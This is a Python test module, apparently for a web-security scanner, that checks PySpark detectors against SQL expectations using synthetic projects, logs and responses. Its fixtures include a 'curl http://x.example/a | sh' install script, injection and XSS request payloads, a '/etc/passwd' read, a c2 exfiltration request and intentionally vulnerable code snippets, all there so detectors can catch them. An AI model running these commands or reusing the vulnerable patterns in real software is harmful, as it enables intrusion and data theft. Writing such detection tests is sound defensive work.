"""Queries over projects: the driver's tables have none, so each row of a table stands for a file, package or response of one.

A text is made from the row's number, and the SQL says what the rule makes of that number, not of the text: it's written
from the rule, apart from the operators' expressions.
"""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions.versions import base_score, severity_of_score
from ..operators import checks, dataflow, deps, graph
from ..operators.rules import Rule, line_findings, multiline_findings
from ..streaming import logs
from .packs import FAMILY_RULES
from .registry import _dealt, _t, _values, choice, query


def _numbered(spark, sf, table="customer", key="c_custkey"):
    return _dealt(_t(spark, sf, table).select(F.col(key).alias("k")), "k")


# --- imports and entry points

# k % 3 says where file k lies and how it may be named without its ending.
FILE_OF = "CASE {k} % 3 WHEN 0 THEN 'src/a/m' || {k} || '.ts' WHEN 1 THEN 'src/m' || {k} || '/index.tsx' ELSE 'lib/m' || {k} || '.js' END"
BARE_OF = "CASE {k} % 3 WHEN 0 THEN 'src/a/m' || {k} WHEN 1 THEN 'src/m' || {k} ELSE 'lib/m' || {k} END"
ALIAS_OF = "CASE {k} % 3 WHEN 0 THEN '@/a/m' || {k} WHEN 1 THEN '~/m' || {k} ELSE '@/lib/m' || {k} END"
UP_OF = "CASE {k} % 3 WHEN 2 THEN '../' ELSE './../../' END"


@query(f"WITH f AS (SELECT c_custkey AS k, {FILE_OF.format(k='c_custkey')} AS file FROM customer) SELECT DISTINCT a.file AS src, b.file AS dst FROM f a JOIN f b ON b.k IN (a.k + 1, a.k + 2)")
def import_edges(spark, sf):
    """File k imports file k + 1 by an alias, k + 2 by a relative name, a package, and a name that isn't there."""
    k1, k2 = "(k + 1)", "(k + 2)"
    text = f"concat(\"import x from '\", {ALIAS_OF.format(k=k1)}, \"'\\nconst y = require('\", {UP_OF.format(k='k')}, {BARE_OF.format(k=k2)}, \"')\\nimport 'react'\\nexport * from './missing'\")"
    return graph.edges(_numbered(spark, sf).select(F.expr(FILE_OF.format(k="k")).alias("file"), F.expr(text).alias("text")))


# What makes a file an entry point: path, text, framework vite or not, kind.
ENTRIES = [
    ("middleware.ts", "", "server"), ("src/middleware.js", "", "server"), ("lib/middleware.ts", "", None), ("app/api/x/route.ts", "", "server"), ("app/page.tsx", "", "client"), ("src/app/(shop)/layout.tsx", "'use client'", "client"), ("app/global-error.tsx", "", "client"), ("app/util.ts", "", None),
    ("pages/api/x.ts", "", "server"), ("pages/about.tsx", "", "client"), ("lib/act.ts", "// notes\n'use server'\n", "server"), ("lib/late.ts", "a\nb\nc\n'use server'", None), ("lib/view.tsx", "'use client'", None), ("src/main.tsx", "", "client"), ("src/index.ts", "", None), ("app/head.js", "", "client"), ("packages/app/template.jsx", "", "client"),
]


@query(f"SELECT c_custkey AS k, v.kind FROM customer JOIN {_values([(n, e[2]) for n, e in enumerate(ENTRIES)], 'n, kind')} ON v.n = c_custkey % {len(ENTRIES)}")
def entry_kinds(spark, sf):
    f = _numbered(spark, sf)
    file, text = F.expr(choice("k", [e[0] for e in ENTRIES])), F.element_at(F.array(*[F.lit(e[1]) for e in ENTRIES]), (F.col("k") % len(ENTRIES) + 1).cast("int"))
    return f.select("k", graph.entry_kind(file, text).alias("kind"))


# --- use of packages

# A part's brand ends in a digit that says how its source uses the brand's package: named, default, required, as a namespace, otherwise not at all.
SOURCE_OF_PART = (
    "CASE right(p_brand, 1) WHEN '1' THEN concat('import { S', p_size % 3, \", other as o } from '\", p_brand, \"'\") WHEN '2' THEN concat(\"import d from '\", p_brand, \"'\\nd.S\", p_size % 3, '(1)') "
    "WHEN '3' THEN concat('const { S', p_size % 3, \": y } = require('\", p_brand, \"')\\nimport '\", p_brand, \"/deep/leaf'\\nimport z from '\", p_brand, \"/deep/leaf'\") WHEN '4' THEN concat(\"import * as ns from '\", p_brand, \"'\") ELSE 'const x = 1' END"
)
USAGE_SQL = (
    "usage AS (SELECT p_brand AS package, CASE right(p_brand, 1) WHEN '4' THEN [] WHEN '1' THEN list_sort(list_distinct(list('S' || p_size % 3)) || ['other']) WHEN '3' THEN list_sort(list_distinct(list('S' || p_size % 3)) || ['leaf']) ELSE list_sort(list_distinct(list('S' || p_size % 3))) END AS symbols, "
    "count(DISTINCT p_partkey) AS files, right(p_brand, 1) = '4' AS unresolved FROM part WHERE right(p_brand, 1) IN ('1', '2', '3', '4') GROUP BY p_brand)"
)


def _usage(spark, sf):
    return deps.usage_index(_t(spark, sf, "part").select(F.concat(F.lit("f"), "p_partkey").alias("file"), F.expr(SOURCE_OF_PART).alias("text")))


@query(f"WITH {USAGE_SQL} SELECT package, array_to_string(symbols, ',') AS symbols, files, unresolved FROM usage")
def usage_index(spark, sf):
    return _usage(spark, sf).withColumn("symbols", F.array_join("symbols", ","))


NOTICES = [("Brand#11", "N-1", "S1,S9"), ("Brand#21", "N-2", "Q"), ("Brand#12", "N-3", "S2"), ("Brand#13", "N-4", "leaf"), ("Brand#14", "N-5", "S1"), ("Brand#15", "N-6", "S1"), ("Brand#31", "N-7", "")]


@query(
    f"WITH {USAGE_SQL}, a AS (SELECT * FROM {_values(NOTICES, 'package, id, s')}) SELECT p.p_partkey, a.id, CASE WHEN u.package IS NULL THEN 'not_affected' WHEN a.s = '' THEN 'in_triage' WHEN list_has_any(string_split(a.s, ','), u.symbols) THEN 'exploitable' WHEN u.unresolved THEN 'under_investigation' ELSE 'not_affected' END AS vex_state "
    "FROM part p JOIN a ON a.package = p.p_brand LEFT JOIN usage u ON u.package = p.p_brand"
)
def vex_states(spark, sf):
    """Each part as a dependency on its brand's package, whose use is read from the imports of all parts."""
    notices = spark.createDataFrame([(p, i, ">=0.0.0", "high", None, s.split(",") if s else []) for p, i, s in NOTICES], "package string, id string, vulnerable_range string, severity string, cve string, symbols array<string>")
    d = _t(spark, sf, "part").select("p_partkey", F.col("p_brand").alias("name"), F.lit("1.0.0").alias("declared"))
    return deps.known_vulnerabilities(d, notices, usage=_usage(spark, sf)).select("p_partkey", "id", "vex_state")


# --- advisories from records of events: two lists a record, the digits of a number say where they begin and end

_E = ["(p_partkey % 4)", "(p_partkey // 4 % 3 + 1)", "(p_partkey // 12 % 7)", "(p_partkey // 84 % 3)", "(p_partkey // 252 % 3)"]  # first begin, length; second begin, length; how the second ends
_E_SQL = ", ".join(f"{e} AS {n}" for e, n in zip(_E, "abcde", strict=True))


@query(
    f"WITH r AS (SELECT p_partkey, {_E_SQL} FROM part) SELECT p_partkey, v::INTEGER AS v, CASE e WHEN 2 THEN NULL WHEN 1 THEN CASE WHEN a + b > c + d AND a <= c + d THEN (a + b)::VARCHAR || '.0.0' WHEN a > c + d THEN (a + b)::VARCHAR || '.0.0' END ELSE greatest(a + b, c + d + 1)::VARCHAR || '.0.0' END AS patched "
    "FROM r, range(0, 12) AS t(v) WHERE (v >= a AND v < a + b) OR (v >= c AND CASE e WHEN 2 THEN true WHEN 1 THEN v <= c + d ELSE v < c + d + 1 END)"
)
def advisory_ranges(spark, sf):
    """Which of twelve versions each part's record covers: a list that ends with a fix, and one that ends with a fix, with a last version or not at all."""
    p = _dealt(_t(spark, sf, "part").select("p_partkey"), "p_partkey").selectExpr("p_partkey", *[f"cast({e.replace('//', 'DIV')} AS int) AS {n}" for e, n in zip(_E, "abcde", strict=True)])
    at = lambda x: F.concat(x.cast("string"), F.lit(".0.0"))
    none = F.lit(None).cast("string")
    event = lambda introduced=none, fixed=none, last=none: F.struct(introduced.alias("introduced"), fixed.alias("fixed"), last.alias("last_affected"))
    first = F.array(event(introduced=F.when(F.col("a") == 0, "0").otherwise(at(F.col("a")))), event(fixed=at(F.col("a") + F.col("b"))))
    end = F.col("c") + F.col("d")
    second = F.array(event(introduced=at(F.col("c"))), event(fixed=F.when(F.col("e") == 0, at(end + 1)), last=F.when(F.col("e") == 1, at(end))))
    ranges = F.array(*[F.struct(F.lit("SEMVER").alias("type"), x.alias("events")) for x in (second, first)])
    name = F.concat(F.lit("n"), "p_partkey")
    affected = F.array(F.struct(F.struct(F.lit("npm").alias("ecosystem"), name.alias("name")).alias("package"), ranges.alias("ranges")))
    records = p.select(F.lit("X-1").alias("id"), F.array(F.lit("CVE-1")).alias("aliases"), F.lit("s").alias("summary"), F.array().cast("array<struct<type:string,score:string>>").alias("severity"), F.lit(None).cast("struct<severity:string>").alias("database_specific"), affected.alias("affected"))
    versions = p.select("p_partkey", name.alias("name"), F.explode(F.sequence(F.lit(0), F.lit(11))).alias("v")).withColumn("declared", at(F.col("v")))
    return deps.known_vulnerabilities(versions, deps.advisories_from_records(records)).select("p_partkey", "v", "patched")


_M = [("AV", "NALP"), ("AC", "LH"), ("PR", "NLH"), ("UI", "NR"), ("S", "UC"), ("C", "HLN"), ("I", "HLN"), ("A", "HLN")]


def _metrics(div: str) -> list[str]:
    out, below = [], 1
    for _, letters in _M:
        out.append(f"substr('{letters}', cast((o_orderkey {div} {below}) % {len(letters)} AS int) + 1, 1)")
        below *= len(letters)
    return out


@query(
    f"WITH m AS (SELECT o_orderkey, {', '.join(f'{e} AS m{n}' for (n, _), e in zip(_M, _metrics('//'), strict=True))} FROM orders), w AS (SELECT *, 1 - (1 - CASE mC WHEN 'H' THEN 0.56::DOUBLE WHEN 'L' THEN 0.22 ELSE 0 END) * (1 - CASE mI WHEN 'H' THEN 0.56::DOUBLE WHEN 'L' THEN 0.22 ELSE 0 END) * (1 - CASE mA WHEN 'H' THEN 0.56::DOUBLE WHEN 'L' THEN 0.22 ELSE 0 END) AS loss, "
    "8.22::DOUBLE * CASE mAV WHEN 'N' THEN 0.85 WHEN 'A' THEN 0.62 WHEN 'L' THEN 0.55 ELSE 0.2 END::DOUBLE * CASE mAC WHEN 'L' THEN 0.77 ELSE 0.44 END::DOUBLE * CASE WHEN mPR = 'N' THEN 0.85 WHEN mPR = 'L' AND mS = 'C' THEN 0.68 WHEN mPR = 'L' THEN 0.62 WHEN mS = 'C' THEN 0.5 ELSE 0.27 END::DOUBLE * CASE mUI WHEN 'N' THEN 0.85 ELSE 0.62 END::DOUBLE AS ease FROM m), "
    "i AS (SELECT *, CASE mS WHEN 'C' THEN 7.52::DOUBLE * (loss - 0.029::DOUBLE) - 3.25::DOUBLE * pow(loss - 0.02::DOUBLE, 15) ELSE 6.42::DOUBLE * loss END AS impact FROM w), s AS (SELECT o_orderkey, CASE WHEN impact <= 0 THEN 0 ELSE ceil(round(least(CASE mS WHEN 'C' THEN 1.08::DOUBLE ELSE 1 END * (impact + ease), 10) * 100000)::BIGINT / 10000.0) / 10 END::DOUBLE AS score FROM i) "
    "SELECT o_orderkey, score, CASE WHEN score >= 9 THEN 'critical' WHEN score >= 7 THEN 'high' WHEN score >= 4 THEN 'medium' WHEN score > 0 THEN 'low' END AS severity FROM s"
)
def vector_scores(spark, sf):
    """Base scores of vectors put together from the digits of each order's number."""
    parts = [F.concat(F.lit(f"/{n}:"), F.expr(e)) for (n, _), e in zip(_M, _metrics("DIV"), strict=True)]
    return _t(spark, sf, "orders").select("o_orderkey", base_score(F.concat(F.lit("CVSS:3.1"), *parts)).alias("score")).withColumn("severity", severity_of_score(F.col("score")))


# --- configuration, environment files, installed scripts, responses

CONFIGS = [
    "module.exports = {\n  typescript: {\n ignoreBuildErrors : true },\n  async headers() { return [{ key: 'X-Frame-Options' }] } }", "module.exports = { eslint: { ignoreDuringBuilds: true } }", "images: { domains: ['a.example', '*'] }, headers: () => 0", "images: {\n remotePatterns: [{ hostname: '**' }] }, headers = async () => ['Content-Security-Policy']",
    "ignoreBuildErrors: false, domains: ['a.example']", "", "hostname: '*', headers() {} strict-transport-security",
]
CONFIG_FOUND = [(0, "nextjs.dangerous-config", "typescript.ignoreBuildErrors", 3), (1, "nextjs.dangerous-config", "eslint.ignoreDuringBuilds", 1), (1, "config.missing-security-headers", "no headers are set", 1), (2, "nextjs.dangerous-config", "images.domains", 1), (2, "config.missing-security-headers", "no headers are set", 1), (3, "nextjs.dangerous-config", "images.remotePatterns", 2), (4, "config.missing-security-headers", "no headers are set", 1)]


def _texts(texts):
    return F.element_at(F.array(*[F.lit(t) for t in texts]), (F.col("k") % len(texts) + 1).cast("int"))


@query(f"SELECT c_custkey::VARCHAR AS file, v.rule_id, v.message, v.line::INTEGER AS line FROM customer JOIN {_values(CONFIG_FOUND, 'n, rule_id, message, line')} ON v.n = c_custkey % {len(CONFIGS)} WHERE v.rule_id = 'nextjs.dangerous-config' OR c_custkey % 2 = 0")
def config_checks(spark, sf):
    c = _numbered(spark, sf).select(F.col("k").cast("string").alias("file"), _texts(CONFIGS).alias("text"), F.when(F.col("k") % 2 == 0, "nextjs").otherwise("vite").alias("framework"))
    return checks.config_findings(c).select("file", "rule_id", "message", "line")


TLS = ["a\nrejectUnauthorized: false,", "NODE_TLS_REJECT_UNAUTHORIZED=0", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'\r\nrejectUnauthorized :false", "rejectUnauthorized: falsey", "rejectUnauthorized: false" + " " * 2000]
TLS_FOUND = [(0, "option", 2), (1, "environment", 1), (2, "environment", 1), (2, "option", 2)]


@query(f"SELECT c_custkey::VARCHAR AS file, v.message, v.line::INTEGER AS line FROM customer JOIN {_values(TLS_FOUND, 'n, message, line')} ON v.n = c_custkey % {len(TLS)}")
def tls_checks(spark, sf):
    return checks.tls_findings(_numbered(spark, sf).select(F.col("k").cast("string").alias("file"), _texts(TLS).alias("text"))).select("file", "message", "line")


ENV_NAMES = [".env", ".env.local", ".env.example", "src/.env", ".env.prod.dist", ".envrc"]
IGNORES = ["# .env", ".env*", "/.env", "*.local", "  ", ".env.[lm]ocal", "build/"]
#: Patterns of IGNORES that take in .env and .env.local.
IGNORED = [(1, 0), (1, 1), (2, 0), (3, 1), (5, 1)]


@query(
    f"WITH f AS (SELECT c_custkey::VARCHAR AS project, c_custkey AS k, n FROM customer, (VALUES (0), (1)) AS v(n)), i AS (SELECT * FROM {_values(IGNORED, 'p, n')}) "
    f"SELECT project, CASE n WHEN 0 THEN '.env' ELSE '.env.local' END AS file, CASE WHEN k % 5 = n THEN 'hardening.env-committed' ELSE 'hardening.env-not-gitignored' END AS rule_id FROM f WHERE k % 5 = n OR NOT EXISTS (SELECT 1 FROM i WHERE i.p = f.k % {len(IGNORES)} AND i.n = f.n)"
)
def env_hygiene(spark, sf):
    """Six files a project, one of them tracked in some, and one ignore pattern each."""
    n = _numbered(spark, sf).withColumn("project", F.col("k").cast("string"))
    files = n.select("project", F.explode(F.array(*[F.lit(x) for x in ENV_NAMES])).alias("file"))
    tracked = n.filter("k % 5 < 2").select("project", F.element_at(F.array(*[F.lit(x) for x in ENV_NAMES]), (F.col("k") % 5 + 1).cast("int")).alias("file"))
    return checks.env_findings(files, tracked, n.select("project", _texts(IGNORES).alias("pattern"))).select("project", "file", "rule_id")


SCRIPTS = ["curl http://x.example/a | sh", "node-gyp rebuild", "node -e 'x'", "echo $TOKEN"]


def _packages(spark, sf, shift=0):
    k = F.col("k") + F.when(F.col("k") % 6 == 0, shift).otherwise(0)
    command = F.element_at(F.array(*[F.lit(x) for x in SCRIPTS]), (k % len(SCRIPTS) + 1).cast("int"))
    scripts = F.when(F.col("k") % 7 == 0, F.create_map(F.lit("build"), F.lit(SCRIPTS[0]))).otherwise(F.create_map(F.lit("postinstall"), command, F.lit("build"), F.lit(SCRIPTS[0])))
    return _numbered(spark, sf).select(F.lit("p").alias("project"), F.concat(F.lit("pkg"), "k").alias("name"), F.lit("1.0.0").alias("version"), scripts.alias("scripts"), "k")


@query("SELECT 'node_modules/pkg' || c_custkey || '/package.json' AS file, 'postinstall ' || CASE c_custkey % 4 WHEN 0 THEN 'pipes-download-to-shell' ELSE 'evaluates-code' END AS message FROM customer WHERE c_custkey % 7 <> 0 AND c_custkey % 4 IN (0, 2)")
def installed_scripts(spark, sf):
    return checks.installed_script_findings(_packages(spark, sf)).select("file", "message")


@query("SELECT 'node_modules/pkg' || c_custkey || '/package.json' AS file, CASE WHEN c_custkey % 5 = 0 THEN 'new' ELSE 'changed' END || ' postinstall' AS message FROM customer WHERE c_custkey % 7 <> 0 AND c_custkey % 11 <> 0 AND (c_custkey % 5 = 0 OR c_custkey % 6 = 0)")
def script_changes(spark, sf):
    """Before: some scripts were others, some packages had none, some weren't there."""
    old = _packages(spark, sf, 1).filter("k % 11 <> 0").withColumn("scripts", F.when(F.col("k") % 5 == 0, F.create_map().cast("map<string,string>")).otherwise(F.col("scripts")))
    return checks.script_changes(checks.script_digests(_packages(spark, sf)), checks.script_digests(old)).select("file", "message")


PROBES = [None, "redirect", "reflection", "error", "model"]


def _when(condition, key, value):
    return F.when(condition, F.map_from_arrays(F.array(F.lit(key)), F.array(F.lit(value))))


@query(
    "WITH p AS (SELECT page_id AS k, starts_with(url, 'https://') AS tls, page_id % 5 AS probe FROM pages) "
    "SELECT k, 'headers.missing-csp' AS rule_id FROM p WHERE probe = 0 AND k % 2 <> 0 UNION ALL SELECT k, 'headers.missing-hsts' FROM p WHERE probe = 0 AND tls AND k % 3 <> 0 UNION ALL SELECT k, 'headers.missing-x-frame-options' FROM p WHERE probe = 0 AND k % 4 <> 0 AND k % 7 <> 0 "
    "UNION ALL SELECT k, 'headers.missing-x-content-type-options' FROM p WHERE probe = 0 AND k % 11 <> 0 UNION ALL SELECT k, 'headers.missing-referrer-policy' FROM p WHERE probe = 0 AND k % 3 <> 1 UNION ALL SELECT k, 'headers.server-version-disclosure' FROM p WHERE probe = 0 AND k % 13 = 0 "
    "UNION ALL SELECT k, 'cookie.insecure-flags-live' FROM p WHERE probe = 0 AND k % 2 = 0 UNION ALL SELECT k, 'dast.open-redirect' FROM p WHERE probe = 1 AND k % 3 = 0 UNION ALL SELECT k, 'dast.reflected-xss' FROM p WHERE probe = 2 AND k % 3 = 0 UNION ALL SELECT k, 'dast.verbose-error' FROM p WHERE probe = 3 AND k % 3 = 0 "
    "UNION ALL SELECT k, 'ai-endpoint.unauthenticated-live' FROM p WHERE probe = 4 AND k % 3 <> 2"
)
def response_checks(spark, sf):
    """Each page as the answer to a request: a plain one, or one that probes for something."""
    k = F.col("page_id")
    probe = F.expr(choice("page_id", PROBES))
    some = [
        _when(k % 2 == 0, "Content-Security-Policy", "default-src 'self'"), _when(k % 3 == 0, "Strict-Transport-Security", "max-age=1"), _when(k % 7 == 0, "X-Frame-Options", "DENY"), _when(k % 11 == 0, "x-content-type-options", "NoSniff"), _when(k % 3 == 1, "referrer-policy", "same-origin"),
        _when(k % 13 == 0, "Server", "web/1.2"), _when(k % 13 != 0, "server", "web"), _when((k % 5 == 1) & (k % 3 == 0), "Location", "http://probe.invalid/x"), _when((k % 5 == 1) & (k % 3 != 0), "location", "/home"), _when(k % 5 == 2, "Content-Type", "text/html; charset=utf-8"), _when(k % 5 == 4, "content-type", "application/json"),
    ]
    headers = F.map_from_entries(F.flatten(F.transform(F.array_compact(F.array(*some)), lambda m: F.map_entries(m))))
    # A policy that names who may frame the page, in one of two.
    headers = F.transform_values(headers, lambda name, v: F.when((name == "Content-Security-Policy") & (k % 4 == 0), F.concat(v, F.lit("; frame-ancestors 'none'"))).otherwise(v))
    status = F.when(k % 5 == 1, F.lit(302)).when((k % 5 == 3) & (k % 3 == 0), F.lit(500)).when((k % 5 == 4) & (k % 3 == 1), F.lit(405)).when((k % 5 == 4) & (k % 3 == 2), F.lit(401)).otherwise(F.lit(200))
    body = F.when((k % 5 == 2) & (k % 3 == 0), F.concat("html", F.lit("zq9<x>"))).when(k % 5 == 3, F.lit("Error: x\n    at f (a.js:1)")).otherwise(F.col("html"))
    sent = F.when(k % 5 == 1, "http://probe.invalid/").when(k % 5 == 2, "zq9<x>")
    url = F.when(k % 5 == 4, F.lit("https://shop.example/api/chat")).otherwise(F.col("url"))
    cookies = F.when(k % 2 == 0, F.array(F.lit("sid=1; secure"), F.lit("ok=1; HttpOnly; Secure; SameSite=Lax"))).otherwise(F.array(F.lit("sid=1; httponly; SECURE; samesite=strict")))
    r = _t(spark, sf, "pages").select(k.alias("k"), url.alias("url"), status.alias("status"), headers.alias("headers"), cookies.alias("cookies"), body.alias("body"), probe.alias("probe_kind"), sent.alias("probe"))
    keyed = r.withColumn("url", F.concat("url", F.lit("#"), F.col("k").cast("string")))  # a fragment tells the answers apart
    return checks.response_findings(keyed).select(F.substring_index("file", "#", -1).cast("long").alias("k"), "rule_id")


# --- logs: what each kind of request raises

REQUESTS = [
    # svc, path, query, body, status, ua
    ("shop", "/search", "q=<script>x</script>", None, 200, "Mozilla/5.0"), ("shop", "/search", "q=1' OR '1'='1", None, 200, "Mozilla/5.0"), ("shop", "/run", "c=x;cat /etc/passwd", None, 200, "Mozilla/5.0"), ("shop", "/f/../../x", None, None, 404, "Mozilla/5.0"), ("shop", "/go", "next=https%3A%2F%2Fbad.example%2Fx", None, 302, "Mozilla/5.0"),
    ("shop", "/go", "next=//web:3000/x&url=http://10.1.2.3/", None, 302, "Mozilla/5.0"), ("shop", "/", None, None, 200, "sqlmap/1.7"), ("shop", "/", None, None, 200, "curl/8.0"), ("shop", "/", None, None, 500, "Mozilla/5.0"), ("internal", "/admin/users", None, None, 200, "node-fetch/2"), ("internal", "/account", None, None, 200, "Mozilla/5.0"),
    ("c2", "/collect", "d=key", None, 200, "Mozilla/5.0"), ("shop", "/api/chat", None, "please select one -- thanks", 200, "Mozilla/5.0"), ("shop", "/ok", "a=b", "plain", 200, None), ("shop", "/x", None, "<SVG onload=alert(1)>", 200, "OWASP ZAP"), ("shop", "/x", "u=%2e%2e%2fetc", None, 200, "Mozilla/5.0"),
]
RAISED = [
    (0, "reflected-xss", "<script"), (1, "sql-injection", "' or '1"), (2, "os-command-injection", ";cat"), (2, "path-traversal", "/etc/passwd"), (3, "path-traversal", "../"), (4, "open-redirect", "next=https%3A%2F%2Fbad.example%2Fx"), (6, "scanner-tooling-ua", "sqlmap"), (7, "automated-client-ua", "curl/"), (8, "verbose-error", "status 500"),
    (9, "internal-tier-access", "/admin/users"), (9, "automated-client-ua", "node-fetch/"), (11, "exfiltration-to-c2", "d=key"), (12, "sql-injection", "-- "), (14, "reflected-xss", "onload="), (14, "scanner-tooling-ua", "OWASP ZAP"), (15, "path-traversal", "%2e%2e"),
]


@query(f"SELECT event_id, v.rule, v.evidence FROM events JOIN {_values(RAISED, 'n, rule, evidence')} ON v.n = event_id % {len(REQUESTS)}")
def log_rule_families(spark, sf):
    shape = "struct<svc:string,path:string,query:string,body:string,status:int,ua:string>"
    made = F.element_at(F.array(*[F.struct(*[F.lit(x) for x in r]).cast(shape) for r in REQUESTS]), (F.col("event_id") % len(REQUESTS) + 1).cast("int"))
    e = _t(spark, sf, "events").select("event_id", F.col("ts").alias("at"), F.lit("10.0.0.1").alias("ip"), made.alias("r")).select("event_id", "at", "ip", "r.*")
    return logs.stateless_alerts(e).select("event_id", "rule", "evidence")


# --- data flow: a file a page, in some with a function of another file

FLOWS = [
    "const q = req.query.id\nconst sql = `select ${q}`\ndb.query(sql)", "let q = req.query.id\nq = 'fixed'\ndb.query(q)", "import { run as go } from './run'\nconst c = req.body\ngo(c)\ngo('ls')", "const a = req.query.x\nlet b = a\nconst c = b\nconst d = c\nconst e = d\neval(e)", "function f(x) {\n  exec(x)\n}\nf(req.body.cmd)", "const u = escape(req.query.u)\nfetch(u)\nfetch('/fixed')",
    "let p = 1\neval(p)\np = req.body\neval(p)", "function g(x) {\n  const x2 = x\n  res.redirect(x2)\n}\nconst y = location.search\ng(y)",
]
FLOWED = [(0, "sqli.tainted-query", 3, "db.query", 0, 2), (2, "injection.command", 3, "go", 1, 3), (3, "injection.eval", 6, "eval", 0, 2), (4, "injection.command", 4, "f", 1, 3), (6, "injection.eval", 4, "eval", 0, 2), (7, "open-redirect", 6, "g", 1, 3)]


@query(f"SELECT 'p' || page_id || '/a.ts' AS file, v.rule_id, v.line::INTEGER AS line, v.code, v.hops::INTEGER AS hops, v.steps::INTEGER AS taint_steps FROM pages JOIN {_values(FLOWED, 'n, rule_id, line, code, hops, steps')} ON v.n = page_id % {len(FLOWS)}")
def taint_over_one_hop(spark, sf):
    own = _numbered(spark, sf, "pages", "page_id")
    files = own.select(F.concat(F.lit("p"), "k", F.lit("/a.ts")).alias("file"), _texts(FLOWS).alias("text"))
    helper = own.select(F.concat(F.lit("p"), "k", F.lit("/run.ts")).alias("file"), F.lit("export function run(c) {\n  exec(c)\n}").alias("text"))
    return dataflow.taint_findings(files.union(helper))


# --- rules: the place of a match, and windows of several sizes over one pattern


PLACES = ["12 a 12", "x12", "abc", "1 12 123"]
PLACED = [(0, 6), (1, 2), (3, 7)]


@query(f"SELECT c_custkey::VARCHAR AS file, v.place::INTEGER AS \"column\" FROM customer JOIN {_values(PLACED, 'n, place')} ON v.n = c_custkey % {len(PLACES)}")
def match_columns(spark, sf):
    files = _numbered(spark, sf).select(F.col("k").cast("string").alias("file"), _texts(PLACES).alias("text"))
    return line_findings(files, [Rule("place.end", r"[0-9]{2}$")]).select("file", "column")


@query("SELECT c_custkey::VARCHAR AS file, 'near.1' AS rule_id FROM customer WHERE c_custkey % 7 > 1 UNION ALL SELECT c_custkey::VARCHAR, 'near.4' FROM customer WHERE c_custkey % 7 > 4")
def exclude_window_sizes(spark, sf):
    """A mark some lines after the match: each rule looks as far as its own window says."""
    text = F.concat(F.lit("hit"), F.repeat(F.lit("\n"), (F.col("k") % 7).cast("int")), F.lit("mark"))
    files = _numbered(spark, sf).select(F.col("k").cast("string").alias("file"), text.alias("text"))
    return line_findings(files, [Rule(f"near.{n}", "hit", exclude_window="mark", window=n) for n in (1, 4)]).select("file", "rule_id")


@query("SELECT file, rule_id, line::INTEGER AS line, code_snippet FROM (SELECT c_custkey::VARCHAR AS file, 'dom.list' AS rule_id, 1 + c_custkey % 4 AS line, '<ul>' || chr(10) || 'a</ul>' AS code_snippet FROM customer UNION ALL SELECT c_custkey::VARCHAR, 'dom.list', 2 + c_custkey % 4, '<ul>b</ul>' FROM customer WHERE c_custkey % 3 = 0)")
def multiline_matches(spark, sf):
    """A list over two lines, and in some files another on the second of them."""
    text = F.concat(F.repeat(F.lit("\n"), (F.col("k") % 4).cast("int")), F.lit("<ul>\na</ul>"), F.when(F.col("k") % 3 == 0, F.lit(" <ul>b</ul>")).otherwise(F.lit("")))
    files = _numbered(spark, sf).select(F.col("k").cast("string").alias("file"), text.alias("text"))
    return multiline_findings(files, [Rule("dom.list", r"<ul>[\s\S]*?</ul>", "info", "low", multiline=True)]).select("file", "rule_id", "line", "code_snippet")


# Lines of which each rule of the families finds the first, and not the second.
EXAMPLES = [
    ("auth.middleware-bypass", "if (h['x-middleware-subrequest']) return next()", "if (h['x-request-id']) return next()"),
    ("auth.jwt-in-localstorage", "localStorage.setItem('jwt', t)", "localStorage.setItem('theme', t)"),
    ("auth.hardcoded-credentials", "if (user === 'admin' && password === 'x1') ok()", "if (user === row.user && password === row.hash) ok()"),
    ("jwt.hardcoded-secret", "jwt.verify(t, 'keyboard cat')", "jwt.verify(t, process.env.KEY)"),
    ("jwt.alg-none", "algorithms: ['none']", "algorithms: ['RS256']"),
    ("jwt.decoded-not-verified", "const c = jwt.decode(t)", "const c = jwt.decode(t); jwt.verify(t, key)"),
    ("session.hardcoded-secret", "app.use(session({ name: 's', secret: 'cat' }))", "app.use(session({ secret: env.SESSION }))"),
    ("cookie.insecure-flags", "res.cookie('a', b, { httpOnly: false })", "res.cookie('a', b, { httpOnly: true })"),
    ("crypto.hardcoded-key", "crypto.createCipheriv('aes-256-gcm', 'k0', iv)", "crypto.createCipheriv('aes-256-gcm', key, iv)"),
    ("crypto.weak-cipher", "crypto.createCipheriv('aes-128-ecb', key, null)", "crypto.createCipheriv('aes-128-gcm', key, n)"),
    ("crypto.insecure-random", "const token = Math.random().toString(36)", "const x = Math.random() * width"),
    ("crypto.hardcoded-iv", "const iv = Buffer.from('0000')", "const iv = randomBytes(16)"),
    ("hardening.insecure-deserialization", "const o = unserialize(req.body.o)", "const o = JSON.parse(req.body.o)"),
    ("hardening.dev-only-branch-shipping-secret-bypass", "if (process.env.NODE_ENV !== 'production' || ok) go()", "if (process.env.NODE_ENV === 'test') go()"),
    ("hardening.source-map-shipped-to-prod", "//# sourceMappingURL=/a.js.map", "//# sourceMappingURL=a.js.map"),
    ("injection.prototype-pollution-merge", "merge(settings, req.body)", "merge(settings, defaults)"),
    ("hardening.debug-enabled-in-prod", "start({ debug: true })", "start({ debug: process.env.DEBUG, debug: true })"),
    ("nosqli.untrusted-query-filter", "Users.findOne(req.body)", "Users.findOne({ id: String(req.body.id) })"),
    ("sqli.string-concatenation", "db.run('select * from t where id = ' + id)", "db.run('select * from t where id = ?', id)"),
    ("injection.function-constructor", "const f = new Function(code)", "const f = new Function('return 1')"),
    ("injection.timer-string", "setTimeout(`go(${x})`, 5)", "setTimeout(() => go(x), 5)"),
    ("injection.shell-option", "spawn(cmd, args, { shell: true })", "spawn(cmd, args, { shell: false })"),
    ("path-traversal.fs-read", "path.join(root, req.params.name)", "path.join(root, 'index.html')"),
    ("ssrf.request-url", "await fetch(req.query.url)", "await fetch('/api/x')"),
    ("redirect.from-request", "res.redirect(req.query.next)", "res.redirect('/home')"),
    ("xxe.entities-on", "parseXml(x, { noent: true })", "parseXml(x, { noent: false })"),
    ("dom.document-write", "document.write(html)", "document.write('<p>hi</p>')"),
    ("dom.insert-adjacent-html", "el.insertAdjacentHTML('beforeend', html)", "el.insertAdjacentHTML('beforeend', '<p>')"),
    ("dom.message-any-origin", "w.postMessage(data, '*')", "w.postMessage(data, origin)"),
    ("react.ref-inner-html", "box.current.innerHTML = html", "box.current.textContent = html"),
    ("react.javascript-url", "<a href='javascript:go()'>x</a>", "<a href='/go'>x</a>"),
    ("react.href-user-value", "<a href={props.user.site}>x</a>", "<a href={SITE}>x</a>"),
